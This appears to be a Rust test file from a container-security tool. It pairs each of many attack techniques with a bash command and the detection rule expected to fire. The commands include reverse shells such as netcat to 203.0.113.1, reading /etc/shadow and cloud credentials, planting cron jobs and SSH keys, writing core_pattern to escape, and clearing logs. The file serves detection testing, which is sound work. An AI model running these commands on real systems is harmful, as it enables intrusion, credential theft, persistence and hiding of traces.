//! The techniques: what each is, how it is carried out, and the rule that has to tell of it.

use self::Where::{Plain, Privileged, Terminal};

/// Which container it happens in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Where {
    /// One as Docker makes it, without a network.
    Plain,
    /// One with [`RIGHTS`], and with addresses that are not private.
    Privileged,
    /// The first, by a shell with a terminal.
    Terminal,
}

/// What makes a container one that can be left, short of `--privileged`, which not every machine can give.
pub(crate) const RIGHTS: &[&str] = &[
    "--cap-add=SYS_ADMIN",
    "--cap-add=SYS_PTRACE",
    "--cap-add=NET_ADMIN",
    "--security-opt=seccomp=unconfined",
    "--security-opt=apparmor=unconfined",
    "--security-opt=systempaths=unconfined",
    "--device-cgroup-rule=b 7:* rwm",
];

/// A technique.
#[derive(Debug)]
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    pub(crate) at: Where,
    /// A script for bash.
    pub(crate) how: &'static str,
    pub(crate) rule: &'static str,
}

const fn attack(name: &'static str, at: Where, how: &'static str, rule: &'static str) -> Attack {
    Attack { name, at, how, rule }
}

pub(crate) static ATTACKS: &[Attack] = &[
    // Shells
    attack(
        "reverse shell by bash and /dev/tcp",
        Plain,
        "attack listen 5001 id & sleep 0.1; bash -c 'bash -i >& /dev/tcp/127.0.0.1/5001 0>&1'",
        "Shell connects to a network",
    ),
    attack(
        "reverse shell by bash, its descriptors",
        Plain,
        "attack listen 5002 id & sleep 0.1; bash -c 'exec 3<>/dev/tcp/127.0.0.1/5002; bash <&3 >&3 2>&3'",
        "Reverse shell",
    ),
    attack(
        "reverse shell by a program and dup2",
        Plain,
        "attack listen 5003 id & sleep 0.1; attack reverse 127.0.0.1 5003",
        "Reverse shell",
    ),
    attack(
        "shell whose input is a connection",
        Plain,
        "attack listen 5004 id & sleep 0.1; attack reverse 127.0.0.1 5004",
        "Shell that the network types into",
    ),
    attack("netcat with -e", Plain, "nc -e /bin/sh 203.0.113.1 4444", "Netcat gives out a shell"),
    attack(
        "netcat that listens",
        Plain,
        "timeout 0.3 nc listen 5005",
        "Netcat listens in a container",
    ),
    attack(
        "perl one-liner for a reverse shell",
        Plain,
        "perl -e 'use Socket; if (0) { exec(\"/bin/sh -i\"); }'",
        "Interpreter told to open a shell",
    ),
    attack("shell of a web server", Plain, "nginx server id", "Shell started by a web server"),
    attack("shell of a database", Plain, "redis-server server id", "Shell started by a database"),
    attack(
        "terminal for a simple shell",
        Plain,
        "script -qc true /dev/null",
        "Terminal made for a shell",
    ),
    attack(
        "encoded command run by a shell",
        Plain,
        "sh -c 'echo aWQK | base64 -d | sh'",
        "Decoded text run by a shell",
    ),
    // Files of accounts
    attack("/etc/shadow read", Plain, "cat /etc/shadow", "Password hashes read"),
    attack(
        "/etc/shadow by a symbolic link",
        Plain,
        "ln -s /etc/shadow /tmp/a; cat /tmp/a",
        "Password hashes read",
    ),
    attack(
        "/etc/shadow by ..",
        Plain,
        "cd /usr/bin; cat ../../tmp/../etc/shadow",
        "Password hashes read",
    ),
    attack("/etc/shadow by openat2", Plain, "attack openat2 /etc/shadow", "Password hashes read"),
    attack(
        "/etc/shadow of a machine that is mounted",
        Plain,
        "mkdir -p /host/etc; echo x > /host/etc/shadow; cat /host/etc/shadow",
        "Password hashes read",
    ),
    attack(
        "/etc/shadow by /proc/self/root",
        Plain,
        "cat /proc/self/root/etc/shadow",
        "Password hashes read",
    ),
    attack(
        "/etc/shadow copied by tar",
        Plain,
        "tar -cf /tmp/x.tar /etc/shadow",
        "Password hashes read",
    ),
    attack("link to /etc/shadow", Plain, "ln -s /etc/shadow /tmp/b", "Link to a file of accounts"),
    attack(
        "hard link to /etc/shadow",
        Plain,
        "ln /etc/shadow /etc/innocent && cat /etc/innocent",
        "Link to a file of accounts",
    ),
    attack(
        "account added to /etc/passwd",
        Plain,
        "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
        "Account file changed by hand",
    ),
    attack(
        "sudo rule put in place",
        Plain,
        "mkdir -p /etc/sudoers.d; echo 'user ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/x",
        "Account file changed by hand",
    ),
    attack(
        "account made by useradd",
        Plain,
        "useradd -o -u 0 toor",
        "Account made or changed in a container",
    ),
    // Programs and settings
    attack("write below /usr/bin", Plain, "echo x > /usr/bin/ls2", "Program directory changed"),
    attack("write below /bin", Plain, "cp /bin/true /bin/ps", "Program directory changed"),
    attack(
        "program replaced by a rename",
        Plain,
        "cp /bin/true /tmp/t; mv /tmp/t /usr/sbin/t",
        "Program directory changed",
    ),
    attack(
        "write below /etc",
        Plain,
        "echo x > /etc/app.conf",
        "Settings below etc changed in a container",
    ),
    attack(
        "moved below /etc",
        Plain,
        "echo x > /tmp/a; mv /tmp/a /etc/moved.conf",
        "Settings below etc changed in a container",
    ),
    attack(
        "program of a running process overwritten",
        Plain,
        "attack exe",
        "Program of a running process overwritten",
    ),
    attack(
        "program of a running process by a descriptor",
        Plain,
        "attack exe-fd /usr/bin/sleep",
        "Program of a running process overwritten",
    ),
    attack(
        "busy program by a descriptor",
        Plain,
        "cp /usr/bin/sleep /tmp/v; attack exe-fd /tmp/v",
        "Program of a running process overwritten",
    ),
    // Coming back
    attack(
        "job of cron",
        Plain,
        "echo '* * * * * root id' > /etc/cron.d/x",
        "Scheduled job planted",
    ),
    attack(
        "crontab of a user",
        Plain,
        "echo '* * * * * id' > /var/spool/cron/crontabs/root",
        "Scheduled job planted",
    ),
    attack(
        "job of cron on a machine that is mounted",
        Plain,
        "mkdir -p /host/etc/cron.d; echo '* * * * * root id' > /host/etc/cron.d/x",
        "Scheduled job planted",
    ),
    attack(
        "unit of systemd",
        Plain,
        "echo '[Service]' > /etc/systemd/system/x.service",
        "Service planted",
    ),
    attack(
        "unit of systemd moved to its place",
        Plain,
        "echo '[Service]' > /tmp/y; mv /tmp/y /etc/systemd/system/y.service",
        "Service planted",
    ),
    attack(
        "unit of systemd linked to its place",
        Plain,
        "ln -s /tmp/z.service /etc/systemd/system/z.service",
        "Service planted",
    ),
    attack(
        "key in authorized_keys",
        Plain,
        "echo 'ssh-ed25519 A' >> /root/.ssh/authorized_keys",
        "SSH key authorised",
    ),
    attack(
        "/etc/ld.so.preload",
        Plain,
        "echo > /etc/ld.so.preload; rm /etc/ld.so.preload",
        "Library preloaded into every program",
    ),
    attack(
        "LD_PRELOAD from /tmp",
        Plain,
        "LD_PRELOAD=/tmp/x.so /bin/true",
        "Library preloaded from a writable directory",
    ),
    attack(
        "start file of a shell",
        Plain,
        "echo id >> /root/.bashrc",
        "Start file of a shell changed",
    ),
    attack(
        "profile of all users",
        Plain,
        "echo id >> /etc/profile",
        "Start file of a shell changed",
    ),
    attack(
        "package manager in a container that runs",
        Plain,
        "apt-get update",
        "Package manager in a running container",
    ),
    // Credentials
    attack(
        "token of a pod",
        Plain,
        "cat /run/secrets/kubernetes.io/serviceaccount/token",
        "Token of a pod read",
    ),
    attack("credentials of AWS", Plain, "cat /root/.aws/credentials", "Cloud credentials read"),
    attack("kubeconfig", Plain, "cp /root/.kube/config /tmp/k", "Cloud credentials read"),
    attack("private key of SSH", Plain, "cat /root/.ssh/id_rsa", "SSH private key read"),
    attack("credentials of git", Plain, "cat /root/.git-credentials", "Stored passwords read"),
    attack(
        "search for private keys",
        Plain,
        "grep -rl 'PRIVATE KEY' /root",
        "Keys and passwords searched for",
    ),
    attack(
        "search for key files",
        Plain,
        "find /root -name id_rsa",
        "Keys and passwords searched for",
    ),
    attack(
        "environment of another process",
        Plain,
        "cat /proc/1/environ",
        "Environment of another process read",
    ),
    attack("history of a shell read", Plain, "cat /root/.bash_history", "Shell history read"),
    attack(
        "metadata service of a cloud",
        Privileged,
        "attack listen 80 & sleep 0.1; attack connect 169.254.169.254 80; kill %1",
        "Cloud metadata asked from a container",
    ),
    attack(
        "keyring of the kernel",
        Plain,
        "attack keyctl",
        "Keyring of the kernel used in a container",
    ),
    attack(
        "key added to the keyring",
        Plain,
        "attack add-key",
        "Keyring of the kernel used in a container",
    ),
    // Ways out
    attack("setns", Plain, "attack setns /proc/1/ns/mnt", "Namespace of another process entered"),
    attack(
        "nsenter",
        Privileged,
        "nsenter --target 1 --mount true",
        "Namespace of another process entered",
    ),
    attack("unshare by its call", Plain, "attack unshare", "Namespaces made in a container"),
    attack(
        "unshare by its tool",
        Privileged,
        "unshare --user --mount true",
        "Namespaces made in a container",
    ),
    attack("mount", Privileged, "mount -t tmpfs none /mnt", "File system mounted in a container"),
    attack(
        "mount of a disk of the machine",
        Plain,
        "mount /dev/vda /mnt",
        "File system mounted in a container",
    ),
    attack("mount by fsopen", Plain, "attack fsopen", "File system mounted in a container"),
    attack(
        "mount by open_tree",
        Privileged,
        "attack open-tree",
        "File system mounted in a container",
    ),
    attack("chroot", Plain, "attack chroot", "Root directory changed in a container"),
    attack("pivot_root", Plain, "attack pivot-root", "Root directory changed in a container"),
    attack(
        "release_agent of control groups",
        Plain,
        "attack open-write /sys/fs/cgroup/memory/release_agent",
        "Release agent or device list of control groups written",
    ),
    attack(
        "core_pattern",
        Plain,
        "attack open-write /proc/sys/kernel/core_pattern",
        "Switch of the kernel written",
    ),
    attack(
        "core_pattern, allowed",
        Privileged,
        "attack open-write /proc/sys/kernel/core_pattern",
        "Switch of the kernel written",
    ),
    attack(
        "sysrq-trigger",
        Plain,
        "attack open-write /proc/sysrq-trigger",
        "Switch of the kernel written",
    ),
    attack(
        "modprobe of a machine that is mounted",
        Plain,
        "attack open-write /host/proc/sys/kernel/modprobe",
        "Switch of the kernel written",
    ),
    attack(
        "binfmt_misc of a machine that is mounted",
        Plain,
        "attack open-write /host/proc/sys/fs/binfmt_misc/register",
        "Switch of the kernel written",
    ),
    attack(
        "core_pattern by a program named yum",
        Plain,
        "cp /usr/bin/attack /tmp/yum; /tmp/yum open-write /proc/sys/kernel/core_pattern",
        "Switch of the kernel written",
    ),
    attack(
        "core_pattern by a child of one named dnf",
        Plain,
        "cp /usr/bin/bash /tmp/dnf; /tmp/dnf -c 'attack open-write /proc/sys/kernel/core_pattern; true' /usr/bin/dnf",
        "Switch of the kernel written",
    ),
    attack(
        "core_pattern by a program named conmon",
        Plain,
        "cp /usr/bin/attack /tmp/conmon; /tmp/conmon open-write /proc/sys/kernel/core_pattern",
        "Switch of the kernel written",
    ),
    attack(
        "core_pattern by a process named as runc",
        Plain,
        "attack open-write-as-runc /proc/sys/kernel/core_pattern; true",
        "Switch of the kernel written",
    ),
    attack(
        "socket of Docker",
        Plain,
        "nginx listen-unix /run/docker.sock & sleep 0.1; attack unix /run/docker.sock; kill %1",
        "Container runtime asked from a container",
    ),
    attack(
        "disk of the machine made and read",
        Privileged,
        "attack mknod /dev/loop9; head -c1 /dev/loop9",
        "Device of the machine opened in a container",
    ),
    attack("device made", Plain, "attack mknod /tmp/disk", "Device made in a container"),
    attack("open_by_handle_at", Plain, "attack handle", "File opened by its handle in a container"),
    attack(
        "root of another process",
        Plain,
        "sleep 1 & cat /proc/$!/root/etc/hostname",
        "File reached through the root of another process",
    ),
    attack(
        "root of another process, doubled slash",
        Plain,
        "sleep 1 & cat /proc//$!/root/etc/hostname",
        "File reached through the root of another process",
    ),
    attack(
        "root of another process by ..",
        Plain,
        "sleep 1 & cat /proc/self/../$!/root/etc/hostname",
        "File reached through the root of another process",
    ),
    attack(
        "root of another process from its folder",
        Plain,
        "sleep 1 & cd /proc/$!; cat root/etc/hostname",
        "File reached through the root of another process",
    ),
    attack(
        "root of another process from /proc",
        Plain,
        "sleep 1 & cd /proc; cat $!/root/etc/hostname",
        "File reached through the root of another process",
    ),
    attack(
        "root of another process by a link",
        Plain,
        "ln -s /proc/1/root /tmp/up; cat /tmp/up/etc/hostname",
        "File reached through the root of another process",
    ),
    attack(
        "client of a cluster",
        Plain,
        "kubectl version --client",
        "Tool of a cluster run in a container",
    ),
    // The kernel and other processes
    attack("init_module", Plain, "attack init-module", "Kernel module loaded"),
    attack("finit_module", Plain, "attack finit-module", "Kernel module loaded"),
    attack("bpf", Plain, "attack bpf", "BPF used in a container"),
    attack(
        "file opened by io_uring",
        Privileged,
        "attack io_uring /etc/shadow",
        "io_uring used in a container",
    ),
    attack("userfaultfd", Plain, "attack userfaultfd", "Page faults handled in a container"),
    attack("perf_event_open", Plain, "attack perf", "Counters of the kernel opened in a container"),
    attack("kexec_load", Plain, "attack kexec", "Kernel replaced"),
    attack("iopl", Plain, "attack iopl", "Ports of the machine used"),
    attack("ptrace", Plain, "attack ptrace", "Process taken over by ptrace"),
    attack("ptrace against debuggers", Plain, "attack traceme", "Process hides from debuggers"),
    attack("process_vm_writev", Plain, "attack vm-write", "Memory of another process written"),
    attack(
        "write to /proc/PID/mem",
        Plain,
        "attack mem-write",
        "Memory of another process written",
    ),
    attack("process_vm_readv", Plain, "attack vm-read", "Memory of another process read"),
    attack("read of /proc/PID/mem", Plain, "attack mem-read", "Memory of another process read"),
    attack("pidfd_getfd", Plain, "attack pidfd-getfd", "Descriptor of another process taken"),
    // Traces
    attack("log emptied", Plain, ": > /var/log/auth.log", "Log cleared"),
    attack("log removed", Plain, "rm /var/log/wtmp", "Log cleared"),
    attack(
        "log moved",
        Plain,
        "cp /etc/hostname /var/log/kern.log; mv /var/log/kern.log /tmp/k",
        "Log cleared",
    ),
    attack("log emptied by truncate", Plain, "truncate -s 0 /var/log/auth.log", "Log cleared"),
    attack("history emptied", Plain, ": > /root/.bash_history", "Shell history cleared"),
    attack("history turned off", Plain, "HISTFILE=/dev/null bash -c true", "Shell history cleared"),
    attack("set-user bit", Plain, "cp /bin/true /tmp/s; chmod u+s /tmp/s", "Set-user bit set"),
    attack("set-user bit by chmod", Plain, "attack chmod /tmp/s", "Set-user bit set"),
    attack(
        "set-user bit by fchmodat2",
        Privileged,
        "cp /bin/true /tmp/s; attack fchmodat2 /tmp/s",
        "Set-user bit set",
    ),
    attack(
        "set-user program dropped and run",
        Plain,
        "cp /bin/true /tmp/r; chmod 4755 /tmp/r; /tmp/r",
        "Program run that the image does not have",
    ),
    attack(
        "capability of a file",
        Plain,
        "cp /bin/true /tmp/c; setcap cap_setuid+ep /tmp/c",
        "Capability given to a program",
    ),
    attack("times of a file", Plain, "touch -r /bin/ls /usr/bin/id", "Times of a file set back"),
    attack(
        "name of a kernel thread, argv[0]",
        Plain,
        "bash -c 'exec -a \"[kworker/0:0]\" sleep 0'",
        "Name of a kernel thread taken",
    ),
    attack(
        "name of a kernel thread, file",
        Plain,
        "cp /bin/true /tmp/kworker; /tmp/kworker",
        "Name of a kernel thread taken",
    ),
    attack(
        "name of a kernel thread, prctl",
        Plain,
        "attack kernel-name",
        "Name of a kernel thread taken",
    ),
    attack(
        "process hidden by a mount",
        Privileged,
        "mount --bind /tmp /proc/1",
        "Process hidden by a mount",
    ),
    attack(
        "hidden program",
        Plain,
        "cp /bin/true /tmp/.x; /tmp/.x",
        "Hidden program run in a container",
    ),
    attack(
        "file made unchangeable",
        Plain,
        "chattr +i /tmp/s",
        "File made unchangeable in a container",
    ),
    attack(
        "data destroyed",
        Plain,
        "echo > /tmp/d; shred -u /tmp/d",
        "Data destroyed in a container",
    ),
    // Programs without an image
    attack("program in memory", Plain, "attack memfd", "Program run from memory"),
    attack(
        "program in memory named as runc's",
        Plain,
        "attack memfd runc_cloned:/proc/self/exe; true",
        "Program run from memory",
    ),
    attack(
        "program in /dev/shm",
        Privileged,
        "mount -o remount,exec /dev/shm; cp /bin/true /dev/shm/t; /dev/shm/t",
        "Program run from shared memory",
    ),
    attack(
        "script in /dev/shm",
        Plain,
        "echo id > /dev/shm/s; bash /dev/shm/s",
        "Program run from shared memory",
    ),
    attack(
        "program whose file is removed",
        Plain,
        "attack deleted",
        "Program run that the image does not have",
    ),
    attack(
        "program that removes its own file",
        Plain,
        "cp /usr/bin/attack /tmp/own; /tmp/own remove-own /tmp/own",
        "Program removes its own file",
    ),
    attack(
        "program dropped and run",
        Plain,
        "cp /bin/true /tmp/dropped; /tmp/dropped",
        "Program run that the image does not have",
    ),
    attack(
        "dropped program connects",
        Privileged,
        "attack listen 8443 & sleep 0.1; cp /usr/bin/attack /tmp/bot; /tmp/bot connect 203.0.113.7 8443; kill %1",
        "Program that the image does not have connects",
    ),
    // Miners and networks
    attack(
        "miner by its arguments",
        Plain,
        "sh -c 'sleep 0 # -o stratum+tcp://pool.example:3333'",
        "Miner run",
    ),
    attack(
        "port of a mining pool",
        Privileged,
        "attack listen 3333 & sleep 0.1; attack connect 203.0.113.7 3333; kill %1",
        "Connection to a port of mining pools",
    ),
    attack(
        "port of a back door",
        Privileged,
        "attack listen 31337 & sleep 0.1; attack connect 203.0.113.7 31337; kill %1",
        "Connection to a port of back doors",
    ),
    attack(
        "database that connects outwards",
        Privileged,
        "attack listen 6380 & sleep 0.1; redis-server connect 203.0.113.7 6380; kill %1",
        "Database connects outwards",
    ),
    attack(
        "SSH to another machine",
        Privileged,
        "attack listen 22 & sleep 0.1; attack connect 203.0.113.7 22; kill %1",
        "SSH out of a container",
    ),
    attack("packet socket", Plain, "attack packet", "Raw socket opened in a container"),
    attack("raw socket", Plain, "attack raw", "Raw socket opened in a container"),
    attack("sniffer", Plain, "tcpdump", "Network examined from a container"),
    attack(
        "download into /tmp",
        Plain,
        "curl -o /tmp/x http://203.0.113.1/x",
        "Download by a shell's tool into a directory for all",
    ),
    // The rest of the rules
    attack("shell with a terminal", Terminal, "exit", "Terminal shell in a container"),
    attack("rules of sudo read", Plain, "cat /etc/sudoers.d/x", "Sudo rules read"),
    attack(
        "library of the system replaced",
        Plain,
        "cp /bin/true /usr/lib/libc.so.7",
        "System library changed",
    ),
    attack(
        "library of the system replaced by mv",
        Plain,
        "cp /bin/true /tmp/l; mv /tmp/l /usr/lib/libz.so.7",
        "System library changed",
    ),
    attack(
        "kernel module unloaded",
        Plain,
        "attack delete-module",
        "Kernel module unloaded in a container",
    ),
    attack(
        "directory of a descriptor",
        Plain,
        "exec 3</; cd /proc/self/fd/3",
        "Container started in a descriptor's directory",
    ),
    attack("firewall turned off", Plain, "iptables -F", "Protection turned off"),
    attack(
        "looney tunables",
        Plain,
        "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true",
        "Environment of a known exploit",
    ),
];
